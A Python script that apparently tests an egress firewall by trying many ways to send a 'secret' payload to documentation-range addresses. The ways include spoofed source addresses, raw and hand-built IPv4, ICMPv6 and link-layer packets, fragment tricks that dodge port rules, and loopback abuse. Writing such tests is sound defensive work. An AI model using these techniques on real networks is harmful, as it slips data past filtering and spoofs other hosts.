#!/usr/bin/env python3
"""forge.py WAY...: tries to send to 2001:db8:2::7 and 198.51.100.7, of which a rule names one port at most (9, of IPv4), by what passes for somebody else's: a line for each
way, "WAY refused" or "WAY sent" as the calls say. Whether anything left, who watches the wire knows."""
import errno
import socket
import struct
import subprocess
import sys
import time

FOREIGN4, FOREIGN6, PERMITTED4, PERMITTED6 = "198.51.100.7", "2001:db8:2::7", "203.0.113.2", "2001:db8:1::2"
IP_FREEBIND, IPV6_FREEBIND, SO_BINDTODEVICE = 15, 78, 25


def own(family, permitted):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((permitted, 53))
        return s.getsockname()[0]


def own4():
    return own(socket.AF_INET, PERMITTED4)


def own6():
    return own(socket.AF_INET6, PERMITTED6)


def as_other(kind, port):
    """A socket with the other's address, which Linux lets everybody have and, over IPv6, send from."""
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    s.bind((FOREIGN6, port))
    s.setblocking(False)
    return s


def answer():
    """The other has spoken first, so that what it is sent is an answer: it was ourselves, over the loopback."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s, as_other(socket.SOCK_DGRAM, 8053) as other:
        s.bind((own6(), 5555))
        s.settimeout(2)
        other.sendto(b"first", (own6(), 5555))
        s.recv(100)
        s.sendto(b"secret", (FOREIGN6, 8053))


def handshake():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s, as_other(socket.SOCK_STREAM, 8080) as other:
        s.bind((own6(), 5556))
        s.listen()
        other.connect_ex((own6(), 5556))
        time.sleep(1)
        raise PermissionError("nobody is told")


def error():
    """What the kernel says of a datagram that nobody takes has the datagram in it."""
    with as_other(socket.SOCK_DGRAM, 8054) as other:
        other.sendto(b"secret", (own6(), 5557))
        time.sleep(0.5)
        raise PermissionError("nobody is told")


def reset():
    with as_other(socket.SOCK_STREAM, 8081) as other:
        other.connect_ex((own6(), 5558))
        time.sleep(0.5)
        raise PermissionError("nobody is told")


def first_over_loopback(port):
    """What is sent over the loopback to the other's address comes back: nobody need know that the other was never there."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo")
        s.bind((own4(), port))
        s.sendto(b"first", (FOREIGN4, 8053))


def over_loopback():
    first_over_loopback(5559)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((own4(), 5559))
        s.sendto(b"secret", (FOREIGN4, 8053))


def with_a_friend():
    """The same, and the other answers what it was never sent."""
    first_over_loopback(5562)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((own4(), 5562))
        s.settimeout(3)
        try:
            s.recv(100)
            print("with_a_friend heard", flush=True)
        except TimeoutError:
            pass
        s.sendto(b"secret", (FOREIGN4, 8053))


def outer_loopback():
    """The loopback's own address, over another device: who is at its other end may take it for his own (route_localnet)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0")
        s.sendto(b"secret", ("127.0.0.1", 2222))


def raw_answer():
    """As the first, in IPv4, where another's address takes CAP_NET_RAW."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, \
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as other:
        s.bind((own4(), 5560))
        udp = struct.pack("!HHHH", 8053, 5560, 8 + 5, 0) + b"first"
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(FOREIGN4), socket.inet_aton(own4()))
        other.sendto(ip + udp, (own4(), 0))
        s.settimeout(2)
        s.recv(100)
        s.sendto(b"secret", (FOREIGN4, 8053))


def icmp6(kind, rest):
    """ICMPv6 made by hand, with the hop limit of what never left a link (RFC 4861)."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.sendto(struct.pack("!BBH", kind, 0, 0) + rest, (FOREIGN6, 0))


def solicit():
    icmp6(135, struct.pack("!I", 0) + socket.inet_pton(socket.AF_INET6, FOREIGN6) + b"secret")


def advert():
    icmp6(136, struct.pack("!I", 0x60000000) + socket.inet_pton(socket.AF_INET6, own6()) + b"secret")


def router_solicit():
    icmp6(133, struct.pack("!I", 0) + b"secret")


def router_advert():
    icmp6(134, struct.pack("!BBHII", 64, 0, 0, 0, 0) + b"secret")


def redirect():
    icmp6(137, struct.pack("!I", 0) + socket.inet_pton(socket.AF_INET6, FOREIGN6) * 2 + b"secret")


def group():
    icmp6(143, struct.pack("!HH", 0, 0) + b"secret")


def behind_headers():
    """An advertisement behind a header of options."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        nd = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + socket.inet_pton(socket.AF_INET6, own6()) + b"secret"
        options = struct.pack("!BBBB4x", socket.IPPROTO_ICMPV6, 0, 1, 4)
        ip = struct.pack("!IHBB16s16s", 0x60000000, len(options) + len(nd), socket.IPPROTO_DSTOPTS, 255,
                         socket.inet_pton(socket.AF_INET6, own6()), socket.inet_pton(socket.AF_INET6, FOREIGN6))
        s.sendto(ip + options + nd, (FOREIGN6, 0))


def fragments():
    """In parts that are not put together before the rules (IP_NODEFRAG), to the one port that a row names: the second part has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.setsockopt(socket.IPPROTO_IP, 22, 1)
        for offset, more in ((0, 0x2000), (1, 0)):
            udp = struct.pack("!HHHH", 5561, 9, 16, 0) if offset == 0 else b"secret!!"
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, more | offset, 64, socket.IPPROTO_UDP, 0,
                             socket.inet_aton(own4()), socket.inet_aton(FOREIGN4))
            s.sendto(ip + udp, (FOREIGN4, 0))


def other_protocol():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 132) as s:
        s.sendto(b"secret", (FOREIGN4, 0))


def frame(protocol, payload, source=None, to=FOREIGN6):
    """Past the rules inside, as somebody may who has got so far, or whom the host's root helps: over the device itself."""
    said = subprocess.run(["ip", "-6", "neigh", "show", "dev", "eth0", "nud", "permanent"], capture_output=True, check=True, text=True)
    mac = bytes.fromhex(said.stdout.split("lladdr ")[1].split()[0].replace(":", ""))
    source, to = (socket.inet_pton(socket.AF_INET6, x) for x in (source or own6(), to))
    total = sum(struct.unpack(f"!{len(payload) // 2}H", payload)) + len(payload) + protocol
    total += sum(struct.unpack("!16H", source + to))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    at = 6 if protocol == socket.IPPROTO_UDP else 2
    payload = payload[:at] + struct.pack("!H", ~total & 0xffff) + payload[at + 2:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as s:
        s.sendto(struct.pack("!IHBB", 0x60000000, len(payload), protocol, 255) + source + to + payload,
                 ("eth0", 0x86dd, 0, 0, mac))


def frame_datagram():
    frame(socket.IPPROTO_UDP, struct.pack("!HHHH", 5563, 8053, 14, 0) + b"secret")


def frame_neighbours():
    for kind in (130, 131, 132, 133, 134, 135, 136, 137, 143):
        frame(socket.IPPROTO_ICMPV6, struct.pack("!BBHI", kind, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, own6()) + b"secret")


def frame_link():
    frame(socket.IPPROTO_UDP, struct.pack("!HHHH", 5563, 8053, 14, 0) + b"secret", source="fe80::1")


for word in sys.argv[1:]:
    try:
        globals()[word]()
        said = "sent"
    except OSError as e:
        said = "refused" if e.errno in (None, errno.EPERM, errno.EACCES) else f"failed: {e}"
    print(word, said, flush=True)
